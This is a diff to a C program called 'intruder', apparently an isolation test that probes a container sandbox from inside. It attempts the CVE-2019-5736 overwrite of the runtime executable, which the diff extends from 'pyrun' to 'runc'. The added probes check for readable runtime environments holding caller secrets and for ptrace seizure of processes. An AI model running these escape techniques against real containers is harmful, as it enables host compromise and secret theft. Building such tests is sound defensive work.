@@ -5,13 +5,16 @@
 // intruder HOST_FILE   the path, on the host, of a file that no container has
 #include <dirent.h>
 #include <fcntl.h>
+#include <stdbool.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/ptrace.h>
+#include <sys/wait.h>
 #include <unistd.h>
 
 enum { MAX_PID = 4096, MAX_PATH = 512 };
-enum finding { HELD = 1, WRITABLE = 2, WRITTEN = 4, HOST_FILE = 8, DESCRIPTOR = 16, MEMORY = 32 };
+enum finding { HELD = 1, WRITABLE = 2, WRITTEN = 4, HOST_FILE = 8, DESCRIPTOR = 16, MEMORY = 32, TRACED = 64, SECRET = 128 };
 
 static unsigned found[MAX_PID];
 static int held[MAX_PID];
@@ -31,11 +34,13 @@ static void write_to(int pid, const char *path, const char *name) {
     close(file);
 }
 
+static bool is_runtime(const char *executable) { return strstr(executable, "pyrun") || strstr(executable, "runc"); }
+
 // CVE-2019-5736: an executable can't be opened for writing while it is executed, so the descriptor is kept until later.
 static void try_executable(int pid) {
     char path[MAX_PATH], name[MAX_PATH] = "";
     snprintf(path, sizeof path, "/proc/%d/exe", pid);
-    if (readlink(path, name, sizeof name - 1) > 0 && strstr(name, "pyrun")) {
+    if (readlink(path, name, sizeof name - 1) > 0 && is_runtime(name)) {
         write_to(pid, path, name);
         if (!held[pid]) held[pid] = open(path, O_RDONLY | O_CLOEXEC);
         if (held[pid] > 0) tell(pid, HELD, "held:", name);
@@ -75,12 +80,37 @@ static void try_memory(int pid) {
     close(memory);
 }
 
+// What the runtime, not a program, has in its environment is its caller's.
+static void try_environment(int pid) {
+    char path[MAX_PATH], name[MAX_PATH] = "", byte;
+    snprintf(path, sizeof path, "/proc/%d/environ", pid);
+    int environment = open(path, O_RDONLY);
+    if (environment < 0) return;
+    ssize_t size = read(environment, &byte, 1);
+    close(environment);
+    snprintf(path, sizeof path, "/proc/%d/exe", pid);
+    if (size == 1 && readlink(path, name, sizeof name - 1) > 0 && is_runtime(name)) tell(pid, SECRET, "environment:", name);
+}
+
+// Stopped for a moment only: a tracee's end is its tracer's to see before its parent's.
+static void try_tracing(int pid) {
+    char name[32];
+    if (ptrace(PTRACE_SEIZE, pid, NULL, NULL)) return;
+    snprintf(name, sizeof name, "%d", pid);
+    tell(pid, TRACED, "traced:", name);
+    ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
+    waitpid(pid, NULL, __WALL);
+    ptrace(PTRACE_DETACH, pid, NULL, NULL);
+}
+
 static void try_process(int pid, const char *host_file) {
     try_executable(pid);
     try_host_file(pid, "root", host_file);
     try_host_file(pid, "cwd", host_file);
     try_descriptors(pid, host_file);
     try_memory(pid);
+    try_environment(pid);
+    try_tracing(pid);
 }
 
 int main(int count, char **words) {
